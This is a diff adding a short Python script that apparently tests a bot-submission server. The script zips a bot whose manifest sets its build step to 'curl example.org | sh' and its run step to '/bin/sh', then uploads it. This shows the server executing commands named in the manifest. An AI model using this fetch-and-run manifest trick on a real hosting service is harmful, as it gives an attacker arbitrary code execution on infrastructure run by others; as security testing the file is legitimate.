@@ -1,0 +1,7 @@
+"""A language's commands are the server's."""
+
+from making import LEGAL, upload, zipped
+
+MANIFEST = b'language = "python"\nbuild = "curl example.org | sh"\nrun = ["/bin/sh"]\n'
+
+upload("bot.zip", zipped(("main.py", LEGAL), ("deadheat.toml", MANIFEST)))
